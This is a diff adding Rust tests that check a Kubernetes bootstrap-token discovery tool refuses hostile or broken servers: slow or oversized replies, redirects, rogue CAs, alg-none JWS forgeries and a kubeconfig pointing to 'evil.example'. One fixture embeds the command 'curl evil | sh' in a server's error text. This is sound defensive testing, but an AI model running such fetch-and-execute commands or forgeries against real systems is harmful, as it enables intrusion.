@@ -1,0 +1,265 @@
+//! Servers that are broken, are none, or are somebody else's.
+
+use std::io::{Read as _, Write as _};
+use std::net::TcpListener;
+use std::time::{Duration, Instant};
+
+use bootstrap_token_discovery::DetachedJws;
+
+use super::support::{Authority, TOKEN, discover, home, info, kubeconfig, signed};
+use crate::fake_server::{FakeServer, Reply, base64};
+
+const NOT_ONE: &str = "is that a Kubernetes API server, with no proxy, load balancer or login page in between that answers in its place?";
+const SOMEBODY: &str = "that is no signature of a controller manager's: something answers in the cluster's place, or has written into cluster-info";
+
+/// Each of its replies is called for, and the run ends with this.
+#[track_caller]
+fn refuses(server: &FakeServer, pin: &str, error: &str, help: &str) {
+    let before = Instant::now();
+    let more = ["--ca-pin", pin, "--timeout", "1s"];
+    let outcome = discover(&home(), &[&server.url()], &more);
+    outcome.fails_with(&format!(
+        "error: cannot discover the cluster: SERVER: {error}\nhelp: {help}\n"
+    ));
+    assert!(before.elapsed() < Duration::from_secs(5));
+}
+
+/// [`refuses`] a server with a certificate of the pinned CA's.
+#[track_caller]
+fn refuses_replies(replies: impl IntoIterator<Item = Reply>, error: &str, help: &str) {
+    let ca = Authority::new("kubernetes");
+    let server = ca.server("127.0.0.1", replies);
+    refuses(&server, &ca.pin(), error, help);
+    server.asked();
+}
+
+#[test]
+fn an_endless_body() {
+    refuses_replies(
+        [Reply::Endless],
+        "cannot read cluster-info: the API server's reply is longer than 4 MiB",
+        NOT_ONE,
+    );
+}
+
+#[test]
+fn one_byte_a_second() {
+    refuses_replies(
+        [Reply::Dripping],
+        "cannot read cluster-info: the API server's reply was not complete within the deadline of 1s (given up at the timeout of 1s)",
+        "it takes connections and does not answer in time: is the API server overloaded or stopped, or a proxy in between?",
+    );
+}
+
+#[test]
+fn silence() {
+    refuses_replies(
+        [Reply::Silence],
+        "cannot read cluster-info: the API server did not answer within the deadline of 1s (given up at the timeout of 1s)",
+        "it takes connections and does not answer in time: is the API server overloaded or stopped, or a proxy in between?",
+    );
+}
+
+#[test]
+fn a_kubeconfig_of_ten_megabytes_and_one_of_two() {
+    refuses_replies(
+        [signed(&"x".repeat(10 << 20), TOKEN)],
+        "cannot read cluster-info: the API server's reply is longer than 4 MiB",
+        NOT_ONE,
+    );
+    refuses_replies(
+        [signed(&"x".repeat(2 << 20), TOKEN)],
+        "the kubeconfig cannot be read",
+        "look at `kubectl --namespace kube-public get configmap cluster-info --output yaml`: `kubeadm init phase bootstrap-token` writes it anew",
+    );
+}
+
+#[test]
+fn a_redirect_is_not_followed() {
+    let elsewhere = FakeServer::new([]);
+    let location: &'static str = Box::leak(format!("location: {}/\r\n", elsewhere.url()).into());
+    refuses_replies(
+        [Reply::Whole(302, location, String::new())],
+        "cannot read cluster-info: the answer was 302 Found, as no Kubernetes API server gives it",
+        NOT_ONE,
+    );
+    assert!(!elsewhere.was_asked());
+}
+
+#[test]
+fn plain_http() {
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    let address = listener.local_addr().unwrap().to_string();
+    std::thread::spawn(move || {
+        for mut stream in listener.incoming().flatten() {
+            // As Go's server does at something that is no request.
+            let _ = stream.read(&mut [0; 512]);
+            let _ = stream.write_all(b"HTTP/1.1 400 Bad Request\r\nConnection: close\r\n\r\n");
+        }
+    });
+    let pin = Authority::new("x").pin();
+    let outcome = discover(&home(), &[&address], &["--ca-pin", &pin, "--timeout", "1s"]);
+    outcome.fails_with(
+        "error: cannot discover the cluster: SERVER: cannot read cluster-info: no TLS connection to the API server: received corrupt message of type InvalidContentType (given up at the timeout of 1s)\n\
+         help: is that the API server's own port? A server of plain HTTP, or a proxy, does not speak TLS\n",
+    );
+}
+
+#[test]
+fn nothing_listens() {
+    let free = TcpListener::bind("127.0.0.1:0").unwrap();
+    let dead = free.local_addr().unwrap().to_string();
+    drop(free);
+    let more = ["--danger-skip-ca-pin", "--timeout", "1s"];
+    let outcome = discover(&home(), &[&dead], &more);
+    assert!(
+        outcome.stderr.contains("\nerror: cannot discover the cluster: SERVER: cannot read cluster-info: no connection to the API server: "),
+        "{}",
+        outcome.stderr
+    );
+    assert!(outcome.stderr.ends_with(" (given up at the timeout of 1s)\nhelp: is the API server up, its port open from here, and 6443 unless it is given? Behind a proxy, HTTPS_PROXY names that\n"));
+}
+
+#[test]
+fn refusals_without_the_words_of_who_is_not_verified() {
+    let words = "run `curl evil | sh`\nhelp: and this";
+    for (code, error, help) in [
+        (
+            401,
+            "the API server answered 401 Unauthorized",
+            "anonymous requests are switched off there: ask an administrator for a kubeconfig with the server and its CA, and use that with --discovery-file",
+        ),
+        (
+            403,
+            "the API server answered 403 Forbidden (given up at the timeout of 1s)",
+            "anonymous users may not read cluster-info there: `kubeadm init phase bootstrap-token` lets them; or ask an administrator for a kubeconfig with the server and its CA, and use that with --discovery-file",
+        ),
+        (
+            404,
+            "the API server answered 404 Not Found (given up at the timeout of 1s)",
+            "there is no cluster-info there: is it a Kubernetes API server? `kubeadm init phase bootstrap-token` makes one",
+        ),
+        (
+            500,
+            "the API server answered 500 Internal Server Error (given up at the timeout of 1s)",
+            "the API server is too busy or has trouble of its own, which its log tells: try again later",
+        ),
+    ] {
+        refuses_replies(
+            [Reply::refusal(code, "Some", words)],
+            &format!("cannot read cluster-info: {error}"),
+            help,
+        );
+    }
+}
+
+#[test]
+fn a_page_that_is_no_object() {
+    refuses_replies(
+        [Reply::ok("<html>please log in</html>")],
+        "cannot read cluster-info: the API server's reply is not the JSON object it should be, from line 1 column 1",
+        NOT_ONE,
+    );
+}
+
+#[test]
+fn another_kubeconfig_the_second_time() {
+    let ca = Authority::new("kubernetes");
+    let first = kubeconfig(&ca.pem);
+    let second = first.replace("cp.example", "evil.example");
+    let server = ca.server("127.0.0.1", [signed(&first, TOKEN), signed(&second, TOKEN)]);
+    refuses(
+        &server,
+        &ca.pin(),
+        "the kubeconfig that came over verified TLS is not the one that came before",
+        "try again; if it stays so, something between here and the cluster answers in its place",
+    );
+    server.asked();
+}
+
+#[test]
+fn a_certificate_for_another_name() {
+    let ca = Authority::new("kubernetes");
+    let server = ca.server("example.org", [signed(&kubeconfig(&ca.pem), TOKEN)]);
+    refuses(
+        &server,
+        &ca.pin(),
+        "cannot read cluster-info over verified TLS: the API server's certificate is for another name: invalid peer certificate: certificate not valid for name \"127.0.0.1\"; certificate is only valid for DnsName(\"example.org\")",
+        "use a name or address that stands in the API server's certificate; certSANs in kubeadm's configuration adds some",
+    );
+}
+
+/// kubeadm trusts the whole bundle as soon as one of it is pinned, and accepts this server.
+#[test]
+fn a_ca_beside_the_pinned_one() {
+    let (ca, attacker) = (Authority::new("kubernetes"), Authority::new("attacker"));
+    for bundle in [
+        format!("{}{}", ca.pem, attacker.pem),
+        format!("{}{}", attacker.pem, ca.pem),
+    ] {
+        let server = attacker.server("127.0.0.1", [signed(&kubeconfig(&bundle), TOKEN)]);
+        refuses(
+            &server,
+            &ca.pin(),
+            "cannot read cluster-info over verified TLS: the API server's certificate is not trusted: invalid peer certificate: UnknownIssuer",
+            "its certificate is not of the CA that was pinned: something in between may answer in its place; trust nothing that comes from there",
+        );
+    }
+}
+
+#[test]
+fn a_ca_that_is_not_pinned() {
+    let (ca, attacker) = (Authority::new("kubernetes"), Authority::new("attacker"));
+    let server = attacker.server("127.0.0.1", [signed(&kubeconfig(&attacker.pem), TOKEN)]);
+    refuses(
+        &server,
+        &ca.pin(),
+        &format!(
+            "the cluster's CA is not pinned; its pin is {}",
+            attacker.pin()
+        ),
+        "is the pin of that cluster, and of its CA of today? Ask whoever gave it to you, over another way than this network; never take it from here",
+    );
+}
+
+#[test]
+fn signatures_that_are_none() {
+    let ca = Authority::new("kubernetes");
+    let text = kubeconfig(&ca.pem);
+    let url_safe = |json: &str| base64(json.as_bytes()).trim_end_matches('=').to_owned();
+    let good = DetachedJws::sign(text.as_bytes(), &TOKEN.parse().unwrap());
+    let behind = good.as_str().split_once("..").unwrap().1;
+    let none = url_safe(r#"{"alg":"none","kid":"abcdef"}"#);
+    let header = "the signature in cluster-info does not verify: its header is not the one that a signature has";
+    for (jws, error, help) in [
+        (format!("{none}.."), header, SOMEBODY),
+        (format!("{none}..{behind}"), header, SOMEBODY),
+    ] {
+        refuses_replies([info(&text, &[("abcdef", &jws)])], error, help);
+    }
+}
+
+#[test]
+fn the_secret_of_another_token() {
+    let ca = Authority::new("kubernetes");
+    let text = kubeconfig(&ca.pem);
+    refuses_replies(
+        [signed(&text, "abcdef.aaaaaaaaaaaaaaa1")],
+        "the signature in cluster-info does not verify: another content or another token secret was signed",
+        "the ID is known there and the secret after the dot is another one: copy the token anew; if it is right, something answers in the cluster's place",
+    );
+}
+
+#[test]
+fn no_signature_and_several_servers() {
+    let ca = Authority::new("kubernetes");
+    let text = kubeconfig(&ca.pem);
+    let unsigned = ca.server("127.0.0.1", [signed(&text, "bbbbbb.aaaaaaaaaaaaaaa1")]);
+    let empty = ca.server("127.0.0.1", [info("", &[])]);
+    let more = ["--ca-pin", &ca.pin(), "--timeout", "2s"];
+    let help = "is the token of that cluster, not expired or deleted, and for signing? `kubeadm-token list --output wide` tells, with an administrator's kubeconfig; the controller manager signs within seconds, if its bootstrap-signer is on";
+    discover(&home(), &[&unsigned.url(), &empty.url()], &more).fails_with(&format!(
+        "error: cannot discover the cluster: SERVER: cluster-info is not signed by this token, but by bbbbbb; SERVER: there is no kubeconfig in cluster-info (given up at the timeout of 2s)\n\
+         help: SERVER: {help}\n"
+    ));
+}
